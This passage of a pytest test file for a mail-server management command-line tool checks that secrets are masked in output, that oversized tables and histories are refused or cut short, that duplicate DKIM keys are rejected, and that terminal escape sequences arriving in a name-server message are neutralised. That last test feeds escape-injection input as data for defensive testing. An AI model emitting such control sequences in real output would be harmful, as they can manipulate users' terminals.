        "drift": HONEST["drift"] | {"unpushed": [f"/etc/{secret}"]},
        "plan": HONEST["plan"] | {"changes": {secret: [secret]}, "refused": secret},
        "user.ls": HONEST["mailcfg"] | {"rows": [row], "lines": [secret]},
    }
    for task, data in echo.items():
        site.scripts["mail"] = lambda _, data=data: [HELLO, result(data)]  # type: ignore[misc]
        name = task.replace("user.ls", "user_ls")
        words = ("10",) if task == "history" else ()
        ended(lambda c, name=name, words=words: body(name)(c, *words, json=as_json), site.context("mail"))
        out, err = capsys.readouterr()
        assert secret not in out + err, task
        assert "********" in out, task
        assert not as_json or json.loads(out)


def test_an_error_of_one_of_several_is_masked(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
    secret = secrets.remember(SECRETS["TRUST_VAULT"])
    site.scripts = {name: lambda _: [says(t="error", message="no", hint=secret, code=1)] for name in ("mail", "backup")}
    assert ended(body("status"), site.context("mail,backup"))[0] == FAILED
    assert secret not in capsys.readouterr().err


def test_what_a_name_server_says_does_not_steer_the_terminal() -> None:
    missing = dns.Missing("example.test", "ns.example.test", f"has another key, p={ESCAPES}")
    assert_harmless(str(missing))


def test_one_wide_cell_does_not_make_a_table_without_end(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{name: "x" for name in "abcdefgh"} for _ in range(50_000)]
    rows[0] = dict.fromkeys("abcdefgh", "x" * protocol.CELL)
    with pytest.raises(shapes.Odd, match="nobody could read"):
        protocol.result("mailcfg", HONEST["mailcfg"] | {"rows": rows})
    entry = HONEST["history"]["entries"][0]
    site.scripts["mail"] = lambda _: [result({"entries": [entry | {"why": "x" * 100_000}, *[entry] * 1000]})]
    body("history")(site.context("mail"), "10")
    assert len(capsys.readouterr().out) < 300_000


def test_two_keys_for_one_record_are_refused() -> None:
    keys = HONEST["dkim"]["keys"] * 2
    with pytest.raises(shapes.Odd, match="two keys"):
        protocol.result("dkim", HONEST["dkim"] | {"keys": keys})


def test_a_run_that_a_clock_made_shorter_than_nothing_is_no_sign_of_a_hostile_machine() -> None:
    entries = [entry | {"seconds": -3599.2} for entry in HONEST["history"]["entries"]]
    assert protocol.result("history", {"entries": entries})["entries"][0]["seconds"] == -3599.2
